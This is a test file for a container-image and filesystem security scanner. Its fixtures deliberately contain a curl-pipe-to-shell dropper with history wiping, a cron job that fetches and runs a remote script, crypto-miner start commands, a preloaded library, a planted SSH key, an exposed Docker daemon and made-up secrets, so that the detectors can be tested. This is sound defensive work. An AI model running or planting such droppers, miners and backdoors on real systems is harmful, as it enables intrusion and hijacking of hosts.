import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MemoryTree } from '../../../tests/support/memory-tree.ts';
import { dockerArchive, type MadeImage } from '../../../tests/support/image-archive.ts';
import { tarOf } from '../../../tests/support/tar.ts';
import { FolderTree } from '../tree/folder-tree.ts';
import { loadYara } from '../../match/yara/yara.ts';
import { CheckRun, type CheckRunOptions } from './check-run.ts';
import { openImage } from './open-image.ts';

const now = Date.UTC(2026, 0, 1) * 1000;
const key = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n`;
/** Made up: forty characters of the alphabet in no order. */
const secretKey = 'q7Zr0TnWb2YvKx9LmEdGh4JsPc6FuA1iO8kRtXeN';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-check-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

interface Said {
  readonly detector: string;
  readonly path: string;
  readonly line: number | undefined;
  readonly sentence: string | undefined;
}

async function claimsOfImage(image: MadeImage, options: Partial<CheckRunOptions> = {}): Promise<Said[]> {
  const path = join(folder, 'app.tar');
  writeFileSync(path, dockerArchive(image));
  const opened = await openImage(path, { spoolFolder: folder });
  try {
    const run = new CheckRun({ now, ...options });
    run.addImage(opened);
    return run.finish('app').claims.map(({ detector, path: at, line, sentence }) => ({
      detector: detector.slice('checks/'.length),
      path: at.replace(path, 'app.tar'),
      line,
      sentence,
    }));
  } finally {
    opened.close();
  }
}

async function said(id: string, image: MadeImage): Promise<string[]> {
  return (await claimsOfImage(image)).filter(({ detector }) => detector === id).map(({ sentence = '' }) => sentence);
}

/** A user, a health check, and nothing else to be said. */
const sound: MadeImage = {
  tags: ['app:1'],
  layers: [{ 'app/run': '#!/bin/sh\nexec sleep 1\n' }],
  run: { User: '1000', Healthcheck: { Test: ['CMD', 'true'] } },
  created: '2025-12-01T00:00:00Z',
};

function holding(files: MadeImage['layers'][number], run: MadeImage['run'] = {}): MadeImage {
  return { ...sound, layers: [files], run: { ...sound.run, ...run } };
}

describe('an image', () => {
  it('in which all is well has no finding', async () => {
    expect(await claimsOfImage(sound)).toEqual([]);
  });

  it('is told to run as root, without health check, and built long ago', async () => {
    const claims = await claimsOfImage({ ...sound, run: {}, created: '2023-01-01T00:00:00Z' });
    expect(claims.map(({ sentence }) => sentence)).toEqual([
      'image app:1 sets no HEALTHCHECK',
      'image app:1 was built 1096 days ago',
      'image app:1 runs as root unless told otherwise',
    ]);
  });

  it('gives away a key that a later layer removed, with the layer and what made it', async () => {
    const image = {
      ...sound,
      layers: [{ 'root/.ssh/': '', 'root/.ssh/work': key }, { 'root/.ssh/.wh.work': '' }],
      history: ['COPY . /', 'RUN rm'],
    };
    expect(await claimsOfImage(image)).toEqual([
      {
        detector: 'secret-in-file',
        path: 'app.tar!/root/.ssh/work',
        line: 1,
        sentence: '/root/.ssh/work holds private key, in layer 0, removed later',
      },
    ]);
  });

  it('gives away secrets of its environment and of the arguments of its build', async () => {
    const env = holding({}, { Env: ['PATH=/bin', `AWS_SECRET_ACCESS_KEY=${secretKey}`] });
    expect(await said('secret-in-environment', env)).toEqual([
      'image app:1 sets AWS_SECRET_ACCESS_KEY, a secret by its name',
    ]);
    const history = { ...sound, history: ['RUN |1 NPM_TOKEN=kq83-ZZt1-Plm4 /bin/sh -c npm ci # buildkit'] };
    expect(await said('secret-in-history', history)).toEqual(['image app:1 shows NPM_TOKEN in step 0']);
    const steps: readonly (readonly [step: string, name: string | undefined])[] = [
      ['RUN /bin/sh -c export DB_PASSWORD=Sup3rS3cretPw1 && make # buildkit', 'DB_PASSWORD'],
      ['LABEL x.password=hunter2hunter2 version=1.0', 'x.password'],
      ['RUN /bin/sh -c cat <<EOF > /etc/x\npassword = H4rdC0ded1pw\nEOF # buildkit', 'password'],
      ['RUN /bin/sh -c GPG_KEY=7169605F62C751356D054A26A821E680 make --with-token=$TOKEN # buildkit', undefined],
    ];
    for (const [step, name] of steps) {
      const sentences = name === undefined ? [] : [`image app:1 shows ${name} in step 0`];
      expect(await said('secret-in-history', { ...sound, history: [step] })).toEqual(sentences);
    }
  });

  it.each([
    [
      'etc/app.env',
      `export DB_PASSWORD="x9-Trk2Lq"\nDB_HOST=db\n`,
      '/etc/app.env holds value of DB_PASSWORD, in layer 0',
    ],
    ['srv/.aws.ini', `aws_secret_access_key = ${secretKey}\n`, '/srv/.aws.ini holds secret key of AWS, in layer 0'],
    [
      'srv/db.txt',
      'postgres://app:Wq8-vv31@db.shop.internal/app\n',
      '/srv/db.txt holds password in an address, in layer 0',
    ],
  ])('holds a secret in %s', async (name, text, sentence) => {
    expect(await said('secret-in-file', holding({ [name]: text }))).toContain(sentence);
  });

  it.each([
    ['usr/share/doc/x/readme', key],
    ['etc/app.env', 'DB_PASSWORD=${DB_PASSWORD}\nPASSWORD_FILE=/run/secrets/db\nTOKEN=changeme-example\n'],
    ['srv/db.txt', 'postgres://user:${PASSWORD}@db/app and https://example.org:8443/path\n'],
  ])('holds no secret in %s', async (name, text) => {
    const found = (await said('secret-in-file', holding({ [name]: text }))).filter(
      (sentence) => !sentence.includes('TOKEN'),
    );
    expect(found).toEqual([]);
  });

  it('has accounts without a password, with one, and a second root', async () => {
    const files = {
      'etc/passwd':
        'root:x:0:0::/root:/bin/sh\nadmin::1000:1000::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\nsys::3:3::/:/sbin/nologin\n',
      'etc/shadow': 'root:$6$salt$hash:1::::::\ntoor:!:1::::::\n',
    };
    expect(await said('empty-password', holding(files))).toEqual([
      'image app:1 holds the hash of a password of root',
      'image app:1 asks for no password of admin',
    ]);
    expect(await said('second-root', holding(files))).toEqual(['image app:1 has the account toor with the number 0']);
    expect(await said('shared-user-id', holding(files))).toEqual([]);
    const shared = { 'etc/passwd': 'a:x:7:7::/:/bin/sh\nb:x:7:8::/:/bin/sh\n' };
    expect(await said('shared-user-id', holding(shared))).toEqual([
      'image app:1 has the accounts a and b with the number 7',
    ]);
  });

  it('has a volume and a working folder that are of the kernel', async () => {
    const run = { Volumes: { '/sys/fs': {}, '/data': {} }, WorkingDir: '/proc/self/fd/7' };
    expect(await said('system-volume', holding({}, run))).toEqual([
      'image app:1 has a volume at /sys/fs',
      'image app:1 starts in /proc/self/fd/7',
    ]);
    expect(await said('system-volume', holding({}, { WorkingDir: '/dev/shm/x', Volumes: { '/srv': {} } }))).toEqual([]);
  });

  it('has set-id programs, files for everybody, servers and tools', async () => {
    const files = {
      'usr/bin/su': { content: 'x', mode: 0o4755 },
      'usr/bin/own': { content: 'x', mode: 0o4755 },
      'tmp/': { content: '', mode: 0o1777, type: '5' },
      'etc/open.conf': { content: 'x', mode: 0o666 },
      'usr/sbin/sshd': { content: 'x', mode: 0o755 },
      'usr/sbin/nginx': { content: 'x', mode: 0o755 },
      'usr/bin/gcc': { content: 'x', mode: 0o755 },
    } as const;
    const image = holding(files, { ExposedPorts: { '22/tcp': {} } });
    expect(await said('set-id-programs', image)).toEqual([
      'image app:1 has /usr/bin/own of root with the set-user-id bit, which is not one of the usual ones (layer 0)',
      'image app:1 has 1 usual programs with set-id bits',
    ]);
    expect(await said('world-writable', image)).toEqual([
      'image app:1 has 1 files and folders that everybody may write, /etc/open.conf among them',
    ]);
    expect(await said('ssh-service', image)).toEqual([
      'image app:1 exposes port 22',
      'image app:1 holds the SSH server /usr/sbin/sshd',
    ]);
    expect(await said('several-services', image)).toEqual(['image app:1 holds SSH, nginx']);
    expect(await said('build-tools', image)).toEqual(['image app:1 holds a compiler: /usr/bin/gcc']);
  });

  it('lets keys and libraries in', async () => {
    const files = {
      'etc/ld.so.preload': '/lib/hide.so\n',
      'root/.ssh/authorized_keys': '# mine\nssh-ed25519 AAAAC3Nz eve@example\n',
    };
    expect(await said('preloaded-library', holding(files))).toEqual([
      'image app:1 loads /lib/hide.so before every program',
    ]);
    expect(await said('authorized-key', holding(files))).toEqual([
      'image app:1 lets a key of the type ssh-ed25519 in (eve@example)',
    ]);
  });

  it('holds programs that hide', async () => {
    const elf = Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(200), Buffer.from('UPX!'), Buffer.alloc(300)]);
    const image = holding({ 'dev/shm/x': { content: elf.toString('latin1'), mode: 0o755 } });
    expect(await said('hidden-program', image)).toEqual(['/dev/shm/x in layer 0: folder for files in passing']);
    expect(await said('packed-program', image)).toEqual(['/dev/shm/x in layer 0: packed by']);
  });

  it('is started as a miner, or made by a dropper', async () => {
    const start = { Cmd: ['sh', '-c', 'x -o stratum+tcp://pool.example:3333 --donate-level 1'] };
    expect(await said('miner', holding({}, start))).toEqual([
      'image app:1 is started so: protocol of mining pools, share for the makers of a miner',
    ]);
    const history = ['RUN curl -s http://192.0.2.1/a | sh; unset HISTFILE'];
    expect(await said('backdoor-script', { ...sound, history })).toEqual([
      'image app:1 is started so: runs what it loads from the network, covers its tracks',
    ]);
  });

  it('holds other programs than its packages brought, and some that none brought', async () => {
    const program = '\u007fELF of the package';
    const digest = createHash('sha1').update(program).digest('base64');
    const base = {
      'etc/os-release': 'ID=alpine\nVERSION_ID=3.20.0\n',
      'lib/apk/db/installed': `P:tool\nV:1.0-r0\nA:x86_64\nF:bin\nR:tool\na:0:0:755\nZ:Q1${digest}\nR:kept\na:0:0:755\nZ:Q1${digest}\n\n`,
      'bin/tool': { content: program, mode: 0o755 },
      'bin/kept': { content: program, mode: 0o755 },
      'usr/local/bin/own': { content: '\u007fELF of mine', mode: 0o755 },
    };
    const image = {
      ...sound,
      layers: [
        base,
        {
          'bin/tool': { content: '\u007fELF of another', mode: 0o755 },
          'bin/more': { content: '\u007fELF more', mode: 0o755 },
        },
      ],
    };
    expect(await said('changed-program', image)).toEqual([
      'image app:1 holds another /bin/tool than the package tool 1.0-r0 brought, in layer 1',
    ]);
    expect(await said('unowned-program', image)).toEqual([
      'image app:1 has /bin/more, which no package brought, in layer 1',
    ]);
    expect(await said('unowned-program', holding({ 'bin/more': { content: '\u007fELF more', mode: 0o755 } }))).toEqual(
      [],
    );
  });

  it('is asked about by rules of YARA, removed files too', async () => {
    const load = await loadYara([{ name: 'a.yar', text: 'rule Marked { strings: $a = "mark-77" condition: $a }' }]);
    const image = { ...sound, layers: [{ 'a.bin': 'mark-77\u0000' }, { '.wh.a.bin': '' }] };
    const found = await claimsOfImage(image, { yara: load?.rules });
    expect(found.map(({ sentence }) => sentence)).toEqual(['/a.bin matches Marked, in layer 0, removed later']);
  });
});

it('a root filesystem tells of the engine of its host', async () => {
  const files = {
    'etc/docker/daemon.json': '{"icc": false}',
    'etc/group': 'docker:x:998:eve\n',
    'usr/lib/systemd/system/docker.service': '[Service]\nExecStart=/usr/bin/dockerd -H fd://\n',
    'etc/systemd/system/docker.service.d/open.conf':
      '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n',
  };
  writeFileSync(join(folder, 'root.tar'), tarOf(files));
  const opened = await openImage(`rootfs:${join(folder, 'root.tar')}`, { spoolFolder: folder });
  const run = new CheckRun({ now });
  run.addImage(opened);
  opened.close();
  const told = run.finish('root').claims.filter(({ severity }) => severity === 'critical' || severity === 'medium');
  expect(told.map(({ sentence }) => sentence)).toEqual([
    'the engine listens on every address, port 2375, without asking for a certificate',
    'the engine lets eve use its socket (group docker), which is as good as root',
  ]);
});

describe('a folder', () => {
  it('is read wholly; what is broken is told, and what is unknown is counted', () => {
    mkdirSync(join(folder, 'a'));
    writeFileSync(join(folder, 'a/Dockerfile'), 'FROM a:1\nUSER root\n');
    writeFileSync(join(folder, 'a/broken.yaml'), 'services: [\n');
    writeFileSync(
      join(folder, 'a/lines.json'),
      '{"HostConfig":{"Privileged":true},"Config":{},"Name":"/one"}\n{"HostConfig":{},"Config":{},"Name":"/two"}\n',
    );
    writeFileSync(join(folder, 'notes'), 'nothing to see');
    const run = new CheckRun({ now });
    run.addPath(new FolderTree(folder), '/');
    const { claims, problems, notChecked } = run.finish('folder');
    expect(claims.filter(({ detector }) => detector === 'checks/privileged').map(({ sentence }) => sentence)).toEqual([
      'container one is privileged',
    ]);
    expect(claims.some(({ path, line }) => path === '/a/Dockerfile' && line === 2)).toBe(true);
    expect(problems.map(({ code, at }) => [code, at.path])).toEqual([['bad-record', '/a/broken.yaml']]);
    expect(notChecked.map(({ what }) => what)).toContain('2 files');
  });

  it('holds droppers and settings of miners, wherever they stand', () => {
    writeFileSync(
      join(folder, 'start.sh'),
      '#!/bin/bash\necho "*/5 * * * * curl -s http://192.0.2.1/a | sh" | crontab -\n',
    );
    writeFileSync(join(folder, 'c.json'), '{"pools": [{"url": "stratum+ssl://pool.example:443"}], "donate-level": 1}');
    writeFileSync(join(folder, 'about.md'), 'A miner has "donate-level" and stratum+tcp://pool.example:3333.');
    const run = new CheckRun({ now });
    run.addPath(new FolderTree(folder), '/');
    const found = run.finish('folder').claims.map(({ detector, path, line }) => `${detector} ${path}:${line ?? 0}`);
    expect(found.sort()).toEqual(['checks/backdoor-script /start.sh:2', 'checks/miner /c.json:1']);
  });
});

it('tells of rules of YARA that do not compile, and runs the others', async () => {
  const load = await loadYara([
    { name: 'bad.yar', text: 'rule X { condition: nothing }' },
    { name: 'good.yar', text: 'rule Y { condition: true }' },
  ]);
  expect(load?.faults.map(({ name }) => name)).toEqual(['bad.yar']);
  expect(load?.rules?.scan(Buffer.from('a')).map(({ rule }) => rule)).toEqual(['Y']);
});

it('finds secrets in the values of a chart, which is rendered as a whole', () => {
  const run = new CheckRun({ now });
  const token = `ghp_${'a1B2'.repeat(9)}`;
  const files = {
    '/c/Chart.yaml': 'name: c\nversion: 1.0.0\n',
    '/c/values.yaml': `token: ${token}\n`,
    '/c/templates/a.yaml': 'kind: {{ .Values.kind }}\n{{ if true }}\napiVersion: v1\n{{ end }}\n',
  };
  run.addPath(new MemoryTree(files), '/c');
  const { claims, problems } = run.finish('c');
  expect(claims.map(({ detector, path }) => `${detector} ${path}`)).toEqual(['checks/secret-in-file /c/values.yaml']);
  expect(problems).toEqual([]);
});
